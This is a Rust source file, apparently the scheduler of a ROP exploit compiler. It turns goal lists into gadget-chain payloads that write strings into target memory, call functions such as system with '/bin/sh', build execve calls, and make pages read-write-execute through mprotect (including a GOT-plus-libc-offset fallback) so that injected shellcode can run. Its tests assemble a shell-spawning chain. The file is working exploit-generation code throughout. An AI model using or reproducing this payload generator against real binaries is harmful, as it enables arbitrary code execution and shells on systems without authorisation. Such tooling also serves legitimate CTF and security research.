//! The Scheduler: turns a goal list into the final payload.
//!
//! Goals compile in reverse order — each goal is built assuming the
//! "return address" after it is the entry address of the
//! already-compiled suffix — so the payload is assembled right-to-left
//! even though it is emitted left-to-right.

mod allocator;

use std::collections::BTreeSet;

use crate::arch::{Arch, RegisterId};
use crate::catalogue::Catalogue;
use crate::consts;
use crate::error::{RopError, SchedulerError};
use crate::gadget::{Gadget, Variant};
use crate::goal::{Arg, Goal};
use crate::payload;
use crate::reader::BinaryReader;

use allocator::Allocator;

/// One compiled fragment: the address its caller should transfer
/// control to, and the stack bytes that follow once execution lands
/// there. `entry`'s own address word is not included in `body` — the
/// caller either embeds it in a preceding gadget's link slot or, for
/// the very first chain in a payload, prepends it itself.
#[derive(Debug, Clone)]
struct Chain {
    entry: u64,
    body: Vec<u8>,
}

#[derive(Debug, Clone)]
struct WriteTriple {
    addr_gadget: Gadget,
    val_gadget: Gadget,
    store_gadget: Gadget,
    complexity: u64,
}

/// Synthesises gadget chains for a goal list against one binary's
/// catalogue. Owns the bump allocator and the lazily-computed
/// write-memory triple cache — no process-wide globals; both live on
/// the Scheduler instance.
pub struct Scheduler<'a> {
    catalogue: &'a Catalogue,
    arch: &'a Arch,
    reader: &'a dyn BinaryReader,
    alloc: Allocator,
    write_triples: Option<Vec<WriteTriple>>,
}

impl<'a> Scheduler<'a> {
    pub fn new(catalogue: &'a Catalogue, arch: &'a Arch, reader: &'a dyn BinaryReader) -> Self {
        let alloc = Allocator::new(reader.writable_region(), arch.word_bytes() as u64);
        Scheduler { catalogue, arch, reader, alloc, write_triples: None }
    }

    /// Compile `goals` into the final byte payload: the packed address
    /// of the first gadget, followed by every chain fragment in the
    /// order the target will consume them.
    pub fn compile(&mut self, goals: &[Goal]) -> Result<Vec<u8>, RopError> {
        let mut chains = Vec::with_capacity(goals.len());
        let mut next = 0u64;
        for goal in goals.iter().rev() {
            let chain = self.compile_goal(goal, next)?;
            next = chain.entry;
            chains.push(chain);
        }
        chains.reverse();

        let mut out = Vec::new();
        if let Some(first) = chains.first() {
            out.extend(payload::pack_word(first.entry, self.arch));
        }
        for c in &chains {
            out.extend_from_slice(&c.body);
        }
        Ok(out)
    }

    fn compile_goal(&mut self, goal: &Goal, next: u64) -> Result<Chain, RopError> {
        match goal {
            Goal::Function { name, address, arguments } => self.compile_function(name, *address, arguments, next),
            Goal::Shellcode { bytes } => self.compile_shellcode(bytes, next),
            Goal::ShellcodeAddress { address } => self.shellcode_address_chain(*address, next),
            Goal::Execve { name, address, argv } => self.compile_execve(name, *address, argv, next),
        }
    }

    fn resolve_function(&self, name: &str, address: Option<u64>) -> Result<u64, RopError> {
        address
            .or_else(|| self.reader.resolve_symbol(name))
            .ok_or_else(|| SchedulerError::SymbolNotFound(name.to_string()).into())
    }

    fn is_reserved(&self, reg: RegisterId) -> bool {
        reg == self.arch.sp || reg == self.arch.ip || self.arch.is_ignored(reg) || Some(reg) == self.arch.lr
    }

    // ---- FunctionGoal ----------------------------------------------

    fn compile_function(&mut self, name: &str, address: Option<u64>, arguments: &[Arg], next: u64) -> Result<Chain, RopError> {
        let function_address = self.resolve_function(name, address)?;

        // Materialise string arguments into writable memory first; the
        // writes are prepended to the register-setup chain afterwards.
        let mut pending_writes = Vec::new();
        let mut values = Vec::with_capacity(arguments.len());
        for arg in arguments {
            match arg {
                Arg::Int(v) => values.push(*v),
                Arg::Bytes(bytes) => {
                    let mut owned = bytes.clone();
                    owned.push(0);
                    let addr = self.alloc.alloc(owned.len() as u64);
                    pending_writes.push((addr, owned));
                    values.push(addr as i64);
                }
            }
        }

        let k = self.arch.calling_convention.len().min(values.len());
        let (reg_values, stack_values) = values.split_at(k);
        let reg_pairs: Vec<(RegisterId, i64)> = self.arch.calling_convention[..k].iter().copied().zip(reg_values.iter().copied()).collect();

        let mut chain = self.build_register_setup_chain(&reg_pairs, function_address, name)?;

        // The function's own entry expects its return address first,
        // followed by any arguments that didn't fit in registers.
        chain.body.extend(payload::pack_word(next, self.arch));
        for v in stack_values {
            chain.body.extend(payload::pack_word(*v as u64, self.arch));
        }

        for (addr, bytes) in pending_writes.into_iter().rev() {
            chain = self.write_memory_chain(addr, &bytes, chain.entry)?;
        }

        Ok(chain)
    }

    /// Set each `(register, value)` pair in order (a `LoadMem(SP →
    /// reg)` preferred, falling back to `LoadConst`), finally routing
    /// control to `final_target` — directly if the architecture has no
    /// link register, otherwise through a `LoadMem(SP → lr)` gadget
    /// that carries it.
    fn build_register_setup_chain(&self, reg_values: &[(RegisterId, i64)], final_target: u64, goal_name: &str) -> Result<Chain, RopError> {
        let mut no_clobber = BTreeSet::new();
        let mut gadgets = Vec::with_capacity(reg_values.len());
        for &(reg, val) in reg_values {
            let g = self
                .catalogue
                .find_load_stack(self.arch.sp, reg, &no_clobber)
                .or_else(|| self.catalogue.find_load_const(reg, val, &no_clobber))
                .ok_or_else(|| SchedulerError::NoGadgetForRegister { register: reg, goal: goal_name.to_string() })?
                .clone();
            no_clobber.insert(reg);
            gadgets.push((g, val));
        }

        let lr_gadget = match self.arch.lr {
            Some(lr) => Some(
                self.catalogue
                    .find_load_stack(self.arch.sp, lr, &no_clobber)
                    .ok_or_else(|| SchedulerError::NoGadgetForRegister { register: lr, goal: goal_name.to_string() })?
                    .clone(),
            ),
            None => None,
        };

        if gadgets.is_empty() {
            return Ok(match &lr_gadget {
                Some(lr_g) => Chain { entry: lr_g.address, body: lr_g.chain(final_target, None, self.arch, consts::FILLER_BYTE) },
                None => Chain { entry: final_target, body: Vec::new() },
            });
        }

        let mut body = Vec::new();
        for i in 0..gadgets.len() {
            let (g, val) = &gadgets[i];
            let next_addr = if i + 1 < gadgets.len() {
                gadgets[i + 1].0.address
            } else if let Some(lr_g) = &lr_gadget {
                lr_g.address
            } else {
                final_target
            };
            body.extend(g.chain(next_addr, Some(*val), self.arch, consts::FILLER_BYTE));
        }
        if let Some(lr_g) = &lr_gadget {
            body.extend(lr_g.chain(final_target, None, self.arch, consts::FILLER_BYTE));
        }

        Ok(Chain { entry: gadgets[0].0.address, body })
    }

    // ---- write-memory chain -----------------------------------------

    fn ensure_write_triples(&mut self) {
        if self.write_triples.is_some() {
            return;
        }
        let regs = self.arch.all_register_ids();
        let mut triples = Vec::new();
        for &addr_r in &regs {
            if self.is_reserved(addr_r) {
                continue;
            }
            let addr_gadget = match self.catalogue.find_load_stack(self.arch.sp, addr_r, &BTreeSet::new()) {
                Some(g) => g.clone(),
                None => continue,
            };
            for &val_r in &regs {
                if val_r == addr_r || self.is_reserved(val_r) {
                    continue;
                }
                let no_clobber: BTreeSet<_> = [addr_r].into_iter().collect();
                let val_gadget = match self.catalogue.find_load_stack(self.arch.sp, val_r, &no_clobber) {
                    Some(g) => g.clone(),
                    None => continue,
                };
                let store_gadget = match self.catalogue.find(Variant::StoreMem, &[Some(addr_r), Some(val_r)], None, &BTreeSet::new()) {
                    Some(g) => g.clone(),
                    None => continue,
                };
                let complexity = addr_gadget.complexity() + val_gadget.complexity() + store_gadget.complexity();
                triples.push(WriteTriple { addr_gadget, val_gadget, store_gadget, complexity });
            }
        }
        triples.sort_by_key(|t| t.complexity);
        self.write_triples = Some(triples);
    }

    fn find_write_triple(&mut self, no_clobber: &BTreeSet<RegisterId>) -> Option<WriteTriple> {
        self.ensure_write_triples();
        let no_clobber_vec: Vec<_> = no_clobber.iter().copied().collect();
        self.write_triples
            .as_ref()
            .unwrap()
            .iter()
            .find(|t| {
                !t.addr_gadget.clobbers_any_of(&no_clobber_vec)
                    && !t.val_gadget.clobbers_any_of(&no_clobber_vec)
                    && !t.store_gadget.clobbers_any_of(&no_clobber_vec)
            })
            .cloned()
    }

    /// Write `bytes` (padded to word alignment with `filler`) into
    /// memory starting at `address`, one word at a time, finally
    /// transferring control to `next`.
    fn write_memory_chain_filled(&mut self, address: u64, bytes: &[u8], next: u64, filler: u8) -> Result<Chain, RopError> {
        let word = self.arch.word_bytes() as usize;
        let mut padded = bytes.to_vec();
        while padded.len() % word != 0 {
            padded.push(filler);
        }
        let words: Vec<&[u8]> = padded.chunks(word).collect();

        if words.is_empty() {
            return Ok(Chain { entry: next, body: Vec::new() });
        }

        let mut segments = Vec::with_capacity(words.len());
        let mut chain_next = next;
        for (i, chunk) in words.iter().enumerate().rev() {
            let triple = self.find_write_triple(&BTreeSet::new()).ok_or(SchedulerError::NoWriteMemoryStrategy)?;
            let word_addr = address.wrapping_add((i * word) as u64);
            let value = payload::unpack_word(chunk, self.arch);

            let mut frag = Vec::new();
            frag.extend(triple.addr_gadget.chain(triple.val_gadget.address, Some(word_addr as i64), self.arch, consts::FILLER_BYTE));
            frag.extend(triple.val_gadget.chain(triple.store_gadget.address, Some(value as i64), self.arch, consts::FILLER_BYTE));
            frag.extend(triple.store_gadget.chain(chain_next, None, self.arch, consts::FILLER_BYTE));

            chain_next = triple.addr_gadget.address;
            segments.push(frag);
        }
        segments.reverse();

        Ok(Chain { entry: chain_next, body: segments.concat() })
    }

    fn write_memory_chain(&mut self, address: u64, bytes: &[u8], next: u64) -> Result<Chain, RopError> {
        self.write_memory_chain_filled(address, bytes, next, consts::FILLER_BYTE)
    }

    // ---- ShellcodeGoal / ShellcodeAddressGoal -----------------------

    fn shellcode_address_chain(&mut self, addr: u64, next: u64) -> Result<Chain, RopError> {
        let page = addr & consts::PAGE_MASK;

        let _ = next; // shellcode never returns; the fixup's own "next" is `addr`, not the goal's.

        if let Some(mprotect_addr) = self.reader.resolve_symbol("mprotect") {
            let args = [Arg::Int(page as i64), Arg::Int(consts::PAGE_SIZE as i64), Arg::Int(consts::PROT_RWX)];
            return self.compile_function("mprotect", Some(mprotect_addr), &args, addr);
        }

        if let Some(syscall_nr) = consts::mprotect_syscall_number(self.arch.name) {
            if let Some(syscall_addr) = self.reader.resolve_symbol("syscall") {
                let args = [Arg::Int(syscall_nr), Arg::Int(page as i64), Arg::Int(consts::PAGE_SIZE as i64), Arg::Int(consts::PROT_RWX)];
                return self.compile_function("syscall", Some(syscall_addr), &args, addr);
            }
        }

        self.read_add_jump_chain(addr)
    }

    /// Best-effort fallback: compute `mprotect`'s
    /// address as `mem[got_slot] + offset` from some probed,
    /// GOT-resolvable libc function, set `mprotect`'s arguments, then
    /// jump to the computed address. Bounded nested search over
    /// register pairs, matching the scheduler's "no timeouts, bounded
    /// search" resource model.
    fn read_add_jump_chain(&mut self, addr: u64) -> Result<Chain, RopError> {
        let page = addr & consts::PAGE_MASK;
        for &probe in consts::SHELLCODE_PROBE_FUNCTIONS {
            let got = match self.reader.got_entry(probe) {
                Some(g) => g,
                None => continue,
            };
            let offset = match self.reader.libc_offset(probe, "mprotect") {
                Some(o) => o,
                None => continue,
            };
            if let Some(chain) = self.try_read_add_jump(got, offset, page, addr) {
                return chain;
            }
        }
        Err(SchedulerError::NoShellcodeStrategy.into())
    }

    fn try_read_add_jump(&self, got: u64, offset: i64, page: u64, addr: u64) -> Option<Result<Chain, RopError>> {
        let regs = self.arch.all_register_ids();
        for (base_reg, jump_reg) in itertools::iproduct!(regs.iter().copied(), regs.iter().copied()) {
            if base_reg == jump_reg || self.is_reserved(base_reg) || self.is_reserved(jump_reg) {
                continue;
            }
            let base_gadget = match self.catalogue.find_load_stack(self.arch.sp, base_reg, &BTreeSet::new()) {
                Some(g) => g,
                None => continue,
            };
            let after_base: BTreeSet<_> = [base_reg].into_iter().collect();
            let read_gadget = match self.catalogue.find(Variant::LoadMem, &[Some(base_reg)], Some(jump_reg), &after_base) {
                Some(g) => g,
                None => continue,
            };
            let mut after_read = after_base.clone();
            after_read.insert(jump_reg);

            // Add may be replaced by Sub with a negated offset when no Add
            // gadget is available for this register pair.
            let (add_gadget, add_offset) =
                match self.catalogue.find(Variant::Arith(crate::gadget::ArithOp::Add), &[Some(jump_reg), None], Some(jump_reg), &after_read) {
                    Some(g) => (g.clone(), offset),
                    None => match self.catalogue.find(Variant::Arith(crate::gadget::ArithOp::Sub), &[Some(jump_reg), None], Some(jump_reg), &after_read) {
                        Some(g) => (g.clone(), -offset),
                        None => continue,
                    },
                };
            let jump_gadget = match self.catalogue.find(Variant::Jump, &[Some(jump_reg)], Some(self.arch.ip), &BTreeSet::new()) {
                Some(g) => g,
                None => continue,
            };

            return Some(self.assemble_read_add_jump(base_gadget.clone(), got, read_gadget.clone(), add_gadget, add_offset, jump_gadget.clone(), page, addr));
        }
        None
    }

    fn assemble_read_add_jump(
        &self,
        base_gadget: Gadget,
        got: u64,
        read_gadget: Gadget,
        add_gadget: Gadget,
        offset: i64,
        jump_gadget: Gadget,
        page: u64,
        addr: u64,
    ) -> Result<Chain, RopError> {
        let mut body = Vec::new();
        body.extend(base_gadget.chain(read_gadget.address, Some(got as i64), self.arch, consts::FILLER_BYTE));
        body.extend(read_gadget.chain(add_gadget.address, None, self.arch, consts::FILLER_BYTE));
        body.extend(add_gadget.chain(jump_gadget.address, Some(offset), self.arch, consts::FILLER_BYTE));
        body.extend(jump_gadget.chain(0, None, self.arch, consts::FILLER_BYTE));
        // The computed mprotect eventually `ret`s into whatever follows
        // its own frame; we don't model its argument registers in this
        // fallback beyond the page/size/prot constants, consistent with
        // the source's own best-effort treatment of this last-resort path.
        body.extend(payload::pack_word(page, self.arch));
        body.extend(payload::pack_word(consts::PAGE_SIZE, self.arch));
        body.extend(payload::pack_word(consts::PROT_RWX as u64, self.arch));
        body.extend(payload::pack_word(addr, self.arch));
        Ok(Chain { entry: base_gadget.address, body })
    }

    fn compile_shellcode(&mut self, bytes: &[u8], next: u64) -> Result<Chain, RopError> {
        let shellcode_addr = self.alloc.alloc(bytes.len() as u64);
        let jump_chain = self.shellcode_address_chain(shellcode_addr, next)?;
        self.write_memory_chain_filled(shellcode_addr, bytes, jump_chain.entry, consts::SHELLCODE_FILLER_BYTE)
            .map(|write_chain| Chain { entry: write_chain.entry, body: [write_chain.body, jump_chain.body].concat() })
    }

    // ---- ExecveGoal ---------------------------------------------------

    fn compile_execve(&mut self, name: &str, address: Option<u64>, argv: &[Vec<u8>], next: u64) -> Result<Chain, RopError> {
        let word = self.arch.word_bytes() as u64;
        let mut argv_addrs = Vec::with_capacity(argv.len());
        for arg in argv {
            let mut owned = arg.clone();
            owned.push(0);
            argv_addrs.push(self.alloc.alloc(owned.len() as u64));
        }
        let array_addr = self.alloc.alloc((argv.len() as u64 + 1) * word);

        let call_args = [Arg::Int(argv_addrs.first().copied().unwrap_or(0) as i64), Arg::Int(array_addr as i64), Arg::Int(0)];
        let mut chain = self.compile_function(name, address, &call_args, next)?;

        let mut array_bytes = Vec::with_capacity(argv_addrs.len() * word as usize + word as usize);
        for a in &argv_addrs {
            array_bytes.extend(payload::pack_word(*a, self.arch));
        }
        array_bytes.extend(payload::pack_word(0, self.arch));
        chain = self.write_memory_chain(array_addr, &array_bytes, chain.entry)?;

        for (arg, addr) in argv.iter().zip(argv_addrs.iter()).rev() {
            let mut owned = arg.clone();
            owned.push(0);
            chain = self.write_memory_chain(*addr, &owned, chain.entry)?;
        }

        Ok(chain)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::arch::Arch;
    use crate::gadget::Variant;
    use crate::reader::{Segment, StaticBinary, WritableRegion};
    use std::collections::{BTreeSet, HashMap};

    fn pop_gadget(address: u64, output: RegisterId, sp: RegisterId) -> Gadget {
        Gadget {
            address,
            variant: Variant::LoadMem,
            inputs: vec![sp],
            output: Some(output),
            params: vec![0],
            clobbers: BTreeSet::new(),
            stack_offset: 16,
            ip_in_stack_offset: Some(8),
        }
    }

    fn store_gadget(address: u64, addr_reg: RegisterId, val_reg: RegisterId) -> Gadget {
        Gadget {
            address,
            variant: Variant::StoreMem,
            inputs: vec![addr_reg, val_reg],
            output: None,
            params: vec![0],
            clobbers: BTreeSet::new(),
            stack_offset: 8,
            ip_in_stack_offset: Some(0),
        }
    }

    #[test]
    fn system_binsh_chain_packs_expected_words() {
        let arch = Arch::amd64();
        let rdi = arch.register_id("rdi").unwrap();
        let rax = arch.register_id("rax").unwrap();
        let rbx = arch.register_id("rbx").unwrap();
        let mut cat = Catalogue::new();
        cat.insert(pop_gadget(0x1000, rdi, arch.sp));
        cat.insert(pop_gadget(0x1100, rax, arch.sp));
        cat.insert(pop_gadget(0x1200, rbx, arch.sp));
        cat.insert(store_gadget(0x1300, rax, rbx));

        let reader = StaticBinary {
            name: "target".into(),
            segments: vec![Segment { bytes: vec![], address: 0, executable: true, writable: false }],
            writable: WritableRegion { address: 0x60000, size: 0x1000 },
            symbols: HashMap::from([("system".to_string(), 0x2000u64)]),
            pie: false,
            base: 0x400000,
            physical_base: 0x400000,
            got: HashMap::new(),
            libc_offsets: HashMap::new(),
        };

        let mut sched = Scheduler::new(&cat, &arch, &reader);
        let goals = vec![Goal::Function {
            name: "system".to_string(),
            address: None,
            arguments: vec![Arg::Bytes(b"/bin/sh".to_vec())],
        }];
        let payload = sched.compile(&goals).unwrap();

        // The write-memory chain (depositing "/bin/sh\0" at its
        // allocated address) wraps the whole thing, so the payload's
        // leading word is the write triple's address-loading gadget.
        let leading = u64::from_le_bytes(payload[0..8].try_into().unwrap());
        assert_eq!(leading, 0x1100);
    }

    #[test]
    fn unresolvable_function_is_symbol_not_found() {
        let arch = Arch::amd64();
        let cat = Catalogue::new();
        let reader = StaticBinary::default();
        let mut sched = Scheduler::new(&cat, &arch, &reader);
        let goals = vec![Goal::Function { name: "nope".to_string(), address: None, arguments: vec![] }];
        assert!(sched.compile(&goals).is_err());
    }
}
